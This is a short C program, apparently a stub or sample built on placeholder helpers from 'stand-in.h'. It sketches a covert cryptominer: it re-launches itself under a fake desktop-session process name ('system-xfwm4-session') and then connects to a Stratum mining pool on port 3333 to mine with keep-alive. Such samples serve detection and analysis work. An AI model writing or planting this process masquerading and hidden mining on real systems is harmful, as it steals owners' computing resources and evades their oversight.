#include "stand-in.h"

int main(int argc, char **argv)
{
	(void)argv;
	if (argc == 1)
		execl("/proc/self/exe", "system-xfwm4-session", "-B", (char *)NULL);
	int pool = dial("stratum", 3333);

	stratum_login(pool);
	mine(pool, 0, 100, 20, KEEP_ALIVE);
}
